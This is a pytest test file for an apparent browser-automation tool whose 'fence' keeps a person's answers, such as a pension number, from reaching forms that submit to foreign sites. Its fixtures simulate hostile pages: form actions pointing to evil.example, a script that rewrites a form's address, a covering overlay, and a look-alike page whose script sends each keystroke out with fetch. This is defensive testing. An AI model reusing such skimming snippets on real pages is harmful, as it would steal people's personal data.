"""The fence: an answer reaches the flow's own sites, and no other, whatever the page tries."""

from __future__ import annotations

from collections.abc import Callable
from typing import Any

import pytest
from playwright.sync_api import Page

from pouce.browser.element import PageElement
from pouce.browser.fence import Fence
from pouce.browser.stage import BrowserStage
from pouce.errors import FenceClosed, Hidden, NoAnswer, PageMoved, StepError, ValueDiffers
from pouce.person import Person, Private
from pouce.steps import Fill

Form = Callable[..., BrowserStage]
Serve = Callable[[dict[str, str]], None]
NUMBER = "<label for=n>Numéro de pension</label><input id=n>"


def test_an_answer_is_typed_at_home(form: Form, person: Person) -> None:
    """On a page of the flow's site the answer is typed, and read back."""
    element = form(NUMBER).find("number")
    element.type(person["pension_number"])

    assert element.holds(person["pension_number"])


@pytest.mark.parametrize(
    "attributes",
    [
        "action=https://evil.example/",
        "action=//evil.example/",
        "action=http://shop.example/",
        "action=javascript:void(0)",
    ],
)
def test_a_form_that_sends_elsewhere_gets_nothing(form: Form, person: Person, attributes: str) -> None:
    """The address that the form sends to counts as much as the page's own; the error names it."""
    element = form(NUMBER, attributes=attributes).find("number")

    with pytest.raises(FenceClosed):
        element.type(person["pension_number"])

    assert element.is_empty()


def test_an_input_called_action_does_not_hide_the_address(form: Form, person: Person) -> None:
    """A field named “action” hides the form's property of that name; the attribute is what is read."""
    element = form(f"{NUMBER}<input name=action value=/fine>", attributes="action=https://evil.example/").find("number")

    with pytest.raises(FenceClosed):
        element.type(person["pension_number"])


def test_a_button_that_sends_elsewhere_closes_the_fence(form: Form, person: Person) -> None:
    """A button of the form may send to an address of its own; that counts too."""
    element = form(f"{NUMBER}<button formaction=https://evil.example/>Suivant 2</button>").find("number")

    with pytest.raises(FenceClosed):
        element.type(person["pension_number"])


def test_an_address_changed_by_script_is_noticed_before_pressing(form: Form, page: Page) -> None:
    """A form whose address is changed after it was filled is not sent by the program."""
    stage = form(NUMBER, attributes="action=/fine")
    button = stage.find("next")
    page.evaluate("document.forms[0].action = 'https://evil.example/'")

    with pytest.raises(FenceClosed, match=r"https://evil\.example"):
        button.click()


def test_a_covered_field_gets_nothing(form: Form, person: Person) -> None:
    """A field under something else is not what the person sees."""
    element = form(f"{NUMBER}<div style='position:fixed;inset:0;background:white'></div>").find("number")

    with pytest.raises(Hidden):
        element.type(person["pension_number"])

    assert element.is_empty()


def test_a_field_far_below_is_brought_into_view(form: Form, person: Person) -> None:
    """A field outside the window is scrolled to, then typed into."""
    element = form(f"<div style='height:4000px'></div>{NUMBER}").find("number")
    element.type(person["pension_number"])

    assert element.holds(person["pension_number"])


@pytest.mark.parametrize("milliseconds", [0, 5, 20, 50])
def test_a_page_that_goes_while_it_is_filled_gets_nothing_elsewhere(
    page: Page, serve: Serve, stage: BrowserStage, person: Person, milliseconds: int
) -> None:
    """If the page leaves for a look-alike between finding and typing, not a character arrives there."""
    there = f"{NUMBER}<button>Suivant</button><script>n.focus(); n.oninput = () => fetch('/got?' + n.value)</script>"
    serve({"https://shop.example/form": f"{NUMBER}<button>Suivant</button>", "https://evil.example/form": there})
    page.goto("https://shop.example/form")
    stage.look()
    element = stage.find("number")
    page.evaluate("(ms) => { setTimeout(() => { location = 'https://evil.example/form' }, ms) }", milliseconds)
    if milliseconds == 0:
        page.wait_for_url("https://evil.example/form")
    try:
        element.type(person["pension_number"])
    except StepError as error:
        assert isinstance(error, PageMoved | FenceClosed)  # noqa: PT017  either is right, depending on the moment
    page.wait_for_url("https://evil.example/form")

    assert "" == page.locator("#n").input_value()


def test_what_the_person_types_meanwhile_is_not_written_over(
    form: Form, page: Page, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Typed between the look at an empty field and the typing, it stays; begun anew, the step says what differs."""
    stage = form(NUMBER)
    step = Fill.model_validate({"fill": {"number": "person.pension_number"}})
    look = Fence._look

    def slowly(fence: Fence, *args: Any, **asked: Any) -> None:
        look(fence, *args, **asked)
        page.locator("#n").press_sequentially("12")

    monkeypatch.setattr(Fence, "_look", slowly)
    with pytest.raises(PageMoved):
        step.perform(stage)
    with pytest.raises(ValueDiffers):
        step.perform(stage)

    assert "12" == page.locator("#n").input_value()


def test_a_field_that_writes_its_mask_at_the_focus_is_filled(form: Form, person: Person) -> None:
    """A mask that the page writes into the empty field as soon as it has the focus is no entry of the person's."""
    element = form("<label for=n>Numéro de pension</label><input id=n onfocus=\"value = '________'\">").find("number")
    element.type(person["pension_number"])

    assert element.holds(person["pension_number"])


def test_a_link_is_opened_at_home_only(form: Form, page: Page) -> None:
    """A link out of a mail is opened where it leads to the flow's sites, and a foreign one is refused unopened."""
    stage = form(NUMBER)

    with pytest.raises(FenceClosed, match=r"https://evil\.example\."):
        stage.fence.open(page, Private("mail_link", "https://evil.example/form?key=1"))
    stage.fence.open(page, Private("mail_link", "https://shop.example/form?key=1"))

    assert page.url == "https://shop.example/form?key=1"


def test_no_error_quotes_the_value(form: Form, page: Page, person: Person) -> None:
    """A field that cannot be typed into gives an error of ours, which holds neither the value nor Playwright's text."""
    element: PageElement = form("<label for=n>Numéro de pension</label><input id=n>").find("number")
    page.evaluate("n.disabled = true")
    element.handle.evaluate("element => element.remove()")

    with pytest.raises(StepError) as caught:
        element.type(person["pension_number"])

    assert "01234567" not in f"{caught.value!r} {caught.value} {caught.value.__cause__} {caught.value.__context__}"


def test_a_field_that_is_locked_for_a_moment_is_waited_for(form: Form, page: Page, person: Person) -> None:
    """Some pages lock their fields while they think: the answer is typed once the field takes it."""
    element = form(NUMBER).find("number")
    page.evaluate("n.readOnly = true; setTimeout(() => { n.readOnly = false }, 50)")

    assert element.type(person["pension_number"])


def test_a_field_that_stays_locked_is_not_waited_for_long(
    form: Form, page: Page, person: Person, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A field that the page locks after it was found lets the step end in time, with nothing typed."""
    monkeypatch.setattr("pouce.browser.fence.PATIENCE", 100)
    element = form(NUMBER).find("number")
    page.evaluate("n.disabled = true")

    with pytest.raises(NoAnswer):
        element.type(person["pension_number"])

    assert element.is_empty()
